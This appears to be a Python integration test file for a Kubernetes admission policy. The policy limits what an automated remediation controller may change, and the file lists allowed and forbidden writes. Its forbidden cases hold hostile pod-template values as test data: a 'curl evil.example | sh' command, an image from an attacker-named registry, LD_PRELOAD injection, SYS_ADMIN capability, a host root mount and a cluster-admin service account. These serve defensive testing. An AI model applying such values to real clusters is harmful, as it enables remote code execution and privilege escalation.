"""What remediation may write, and what it may not, as one write each."""

from __future__ import annotations

import functools
from collections.abc import Callable
from typing import Any

from kubernetes import client

from tests.integration.runbook_action.admission.copies import (
    FORBIDDEN_COPIES,
    RUN_AGAIN,
    run_again,
)
from tests.integration.runbook_action.admission.kinds import FORBIDDEN_KINDS
from tests.integration.runbook_action.admission.scene import (
    MARKED,
    RESTART,
    RUN_BEFORE,
    RUNNING,
    WORKLOADS,
    Scene,
    template,
)


def set_in(path: str, value: Any) -> Callable[[dict[str, Any]], None]:
    """A change of a template: one field of the pod, or, after ``main.``, of its container."""

    def change(wanted: dict[str, Any]) -> None:
        of, _, name = path.rpartition(".")
        target = wanted["spec"]["containers"][0] if of == "main" else wanted["spec"]
        target[name] = value

    return change


def label_pods(wanted: dict[str, Any]) -> None:
    wanted["metadata"]["labels"]["team"] = "another"


def annotate_pods(wanted: dict[str, Any]) -> None:
    wanted["metadata"]["annotations"] = {"vault.hashicorp.com/agent-inject": "true"}


def refuse_no_more(wanted: dict[str, Any]) -> None:
    wanted["metadata"]["annotations"] = {"sre-platform/remediation": "on"}


def tell(scene: Scene, **metadata: Any) -> Any:
    """Write an event, as its own API has them."""
    event = {
        "metadata": {"name": "told", **metadata},
        "eventTime": "2026-11-29T09:00:00.000001Z",
        "type": "Normal",
        "reason": "Remediation",
        "action": "restart_deployment",
        "regarding": {"kind": "Deployment", "namespace": scene.namespace},
        "reportingController": "sre-platform/runbook-action",
        "reportingInstance": "runbook-action",
    }
    return scene.api(client.EventsV1Api).create_namespaced_event(
        scene.namespace, event, dry_run="All"
    )


def another_container(wanted: dict[str, Any]) -> None:
    wanted["spec"]["containers"].append({"name": "more", "image": RUNNING})


OWNER = {"apiVersion": "v1", "kind": "ConfigMap", "name": "x", "uid": "1"}
MORE_THAN_A_NAME: dict[str, Any] = {
    "labels": {"a": "b"},
    "annotations": {"a": "b"},
    "ownerReferences": [OWNER],
    "finalizers": ["a.example/b"],
}

ALLOWED: dict[str, Callable[[Scene], Any]] = {
    **{
        f"{write} of a {kind}": act
        for kind in WORKLOADS
        for write, act in {
            "the marks": lambda scene, kind=kind: scene.patch(kind, MARKED),
            "a restart": lambda scene, kind=kind: scene.patch(
                kind, {"spec": {"template": {"metadata": {"annotations": RESTART}}}}
            ),
            "a roll back": lambda scene, kind=kind: scene.put_template(kind, template(RUN_BEFORE)),
            "a roll back with the marks of a restart": lambda scene, kind=kind: scene.put_template(
                kind,
                {
                    **template(RUN_BEFORE),
                    "metadata": {"labels": {"app": "checkout"}, "annotations": RESTART},
                },
            ),
            "an image of a listed repository": lambda scene, kind=kind: scene.changed(
                kind, set_in("main.image", "team.example/tools/new:7")
            ),
        }.items()
    },
    "replicas of a deployment": lambda scene: scene.patch("deployment", {"spec": {"replicas": 4}}),
    "replicas of a stateful_set": lambda scene: scene.patch(
        "stateful_set", {"spec": {"replicas": 4}}
    ),
    "an autoscaler's minimum": lambda scene: scene.patch(
        "horizontal_pod_autoscaler", {"spec": {"minReplicas": 2}}
    ),
    "an autoscaler's maximum": lambda scene: scene.patch(
        "horizontal_pod_autoscaler", {**MARKED, "spec": {"maxReplicas": 9}}
    ),
    "a larger claim": lambda scene: scene.patch(
        "persistent_volume_claim",
        {**MARKED, "spec": {"resources": {"requests": {"storage": "2Gi"}}}},
    ),
    "cordon": lambda scene: scene.patch("node", {**MARKED, "spec": {"unschedulable": True}}),
    "a job again": lambda scene: run_again(scene),
    "that a job is run again": lambda scene: scene.patch(
        "job", {"metadata": {"labels": {RUN_AGAIN: None}}}
    ),
    "the end of a copy": lambda scene: scene.suspend("copy", True),
    "the question what is allowed": lambda scene: scene.api(
        client.AuthorizationV1Api
    ).create_self_subject_access_review(
        {"spec": {"resourceAttributes": {"verb": "get", "resource": "pods"}}}, dry_run="All"
    ),
    "an event of the events API": tell,
    "an event": lambda scene: scene.core.create_namespaced_event(
        scene.namespace,
        {
            "metadata": {"name": "told"},
            "involvedObject": {"kind": "Deployment", "namespace": scene.namespace},
        },
        dry_run="All",
    ),
}

TEMPLATE = "remediation changes of a pod template only"
WORKLOAD = "only replicas and pod template"
AUTOSCALER = "only minReplicas and maxReplicas"
NO_LABEL = "changes no label"
TOLD = "an event of remediation bears a name"
HELD = "suspends only a copy"
WAY_BACK = "takes nothing away"
CHANGED_TEMPLATES: dict[str, Callable[[dict[str, Any]], None]] = {
    "an image that never ran": set_in("main.image", "team.example/checkout:3"),
    "an image of another registry": set_in("main.image", "evil.example/checkout:1"),
    "an image on another port of a listed host": set_in("main.image", "localhost:5000/evil:1"),
    "a way up from a listed repository": set_in("main.image", "team.example/tools/../evil:1"),
    "a repository whose name only begins like a listed one": set_in(
        "main.image", "team.example/tools-of-others:1"
    ),
    "a command": set_in("main.command", ["sh", "-c", "curl evil.example | sh"]),
    "arguments": set_in("main.args", ["--dump"]),
    "a variable": set_in("main.env", [{"name": "LD_PRELOAD", "value": "libother.so"}]),
    "a secret as variables": set_in("main.envFrom", [{"secretRef": {"name": "other"}}]),
    "privileges": set_in("main.securityContext", {"capabilities": {"add": ["SYS_ADMIN"]}}),
    "a hook that runs something": set_in(
        "main.lifecycle", {"postStart": {"exec": {"command": ["sh"]}}}
    ),
    "another container": another_container,
    "another service account": set_in("serviceAccountName", "cluster-admin"),
    "the node's network": set_in("hostNetwork", True),
    "a folder of the node": set_in("volumes", [{"name": "root", "hostPath": {"path": "/"}}]),
    "a secret as a volume": set_in("volumes", [{"name": "s", "secret": {"secretName": "other"}}]),
    "a node by name": set_in("nodeName", "control-plane"),
    "labels of the pods": label_pods,
    "annotations of the pods": annotate_pods,
}


def _changed(kind: str, change: Callable[[dict[str, Any]], None], scene: Scene) -> Any:
    return scene.changed(kind, change)


FORBIDDEN: dict[str, tuple[str, Callable[[Scene], Any]]] = {
    **FORBIDDEN_COPIES,
    **FORBIDDEN_KINDS,
    **{
        f"{what} in a {kind}": (
            TEMPLATE,
            functools.partial(_changed, kind, change),
        )
        for kind in WORKLOADS
        for what, change in CHANGED_TEMPLATES.items()
        if kind == "deployment" or what in ("an image that never ran", "another service account")
    },
    "a roll back with one thing more": (
        TEMPLATE,
        lambda scene: scene.put_template("deployment", template(RUN_BEFORE, hostPID=True)),
    ),
    "a listed image and a command": (
        TEMPLATE,
        lambda scene: scene.put_template(
            "deployment",
            template() | {"spec": {**template("team.example/tools:1")["spec"], "hostPID": True}},
        ),
    ),
    "pausing": (WORKLOAD, lambda scene: scene.patch("deployment", {"spec": {"paused": True}})),
    "the update strategy": (
        WORKLOAD,
        lambda scene: scene.patch(
            "deployment", {"spec": {"strategy": {"rollingUpdate": {"maxSurge": 9}}}}
        ),
    ),
    "a label": (
        NO_LABEL,
        lambda scene: scene.patch("deployment", {"metadata": {"labels": {"a": "b"}}}),
    ),
    "a label of a job": (
        NO_LABEL,
        lambda scene: scene.patch("job", {"metadata": {"labels": {"a": "b"}}}),
    ),
    "that a deployment is run again": (
        NO_LABEL,
        lambda scene: scene.patch("deployment", {"metadata": {"labels": {RUN_AGAIN: "x"}}}),
    ),
    "an owner": (
        NO_LABEL,
        lambda scene: scene.patch("deployment", {"metadata": {"ownerReferences": [OWNER]}}),
    ),
    "a finalizer": (
        NO_LABEL,
        lambda scene: scene.patch("deployment", {"metadata": {"finalizers": ["a.example/b"]}}),
    ),
    "somebody else's annotation": (
        "no annotation but its own",
        lambda scene: scene.patch("deployment", {"metadata": {"annotations": {"a": "b"}}}),
    ),
    "the refusal of remediation": (
        "not sre-platform/remediation",
        lambda scene: scene.patch(
            "deployment", {"metadata": {"annotations": {"sre-platform/remediation": "on"}}}
        ),
    ),
    **{
        f"the refusal of remediation in the pods of a {kind}": (
            "says to this platform",
            functools.partial(_changed, kind, refuse_no_more),
        )
        for kind in WORKLOADS
    },
    **{
        f"an event with {field}": (TOLD, functools.partial(tell, **{field: value}))
        for field, value in MORE_THAN_A_NAME.items()
    },
    "the way back": (
        WAY_BACK,
        lambda scene: scene.patch(
            "deployment", {"metadata": {"annotations": {"sre-platform/ran-1": None}}}
        ),
    ),
    "a history of its own making": (
        "what has run before",
        lambda scene: scene.patch(
            "deployment", {"metadata": {"annotations": {"sre-platform/ran-5": "anything"}}}
        ),
    ),
    "the autoscaler's target": (
        AUTOSCALER,
        lambda scene: scene.patch(
            "horizontal_pod_autoscaler", {"spec": {"scaleTargetRef": {"name": "other"}}}
        ),
    ),
    "the autoscaler's metrics": (
        AUTOSCALER,
        lambda scene: scene.patch(
            "horizontal_pod_autoscaler",
            {"spec": {"behavior": {"scaleDown": {"selectPolicy": "Disabled"}}}},
        ),
    ),
    "a taint": (
        "no taint",
        lambda scene: scene.patch(
            "node", {"spec": {"taints": [{"key": "a", "effect": "NoExecute"}]}}
        ),
    ),
    "a label of a node": (
        NO_LABEL,
        lambda scene: scene.patch("node", {"metadata": {"labels": {"zone": "b"}}}),
    ),
    "the provider of a node": (
        "spec.unschedulable",
        lambda scene: scene.patch("node", {"spec": {"providerID": "aws:///x"}}),
    ),
    "a smaller claim": (
        "only to more",
        lambda scene: scene.patch(
            "persistent_volume_claim", {"spec": {"resources": {"requests": {"storage": "500Mi"}}}}
        ),
    ),
    "another volume for a claim": (
        "only the storage",
        lambda scene: scene.patch(
            "persistent_volume_claim", {"spec": {"volumeName": "of-somebody-else"}}
        ),
    ),
    **{
        what: (HELD, functools.partial(Scene.suspend, job=job, wanted=wanted))
        for what, job, wanted in (
            ("the end of a job that is no copy", "theirs", True),
            ("the start of a job that somebody holds back", "theirs-held", False),
            ("the start of a copy that was stopped", "copy-held", False),
        )
    },
    "how often a job may run": (
        "only whether a job is suspended",
        lambda scene: scene.patch("job", {"spec": {"parallelism": 9}}),
    ),
}
